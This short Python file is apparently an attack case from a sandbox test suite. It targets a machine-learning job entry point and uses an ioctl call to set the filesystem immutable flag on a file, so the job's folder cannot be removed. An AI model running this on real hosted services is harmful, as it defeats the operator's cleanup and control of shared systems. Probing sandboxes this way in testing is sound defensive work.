"""Leaves a file that not even its owner may remove, so that the folder of the job stays for ever."""

import array
import fcntl
import os

from attack import attack


@attack
def azureml_main(dataframe1=None, dataframe2=None):
    descriptor = os.open("stays", os.O_CREAT | os.O_RDWR)
    fcntl.ioctl(descriptor, 0x40086602, array.array("L", [0x10]))  # FS_IOC_SETFLAGS: may not be changed
    return "made a file that cannot be removed"
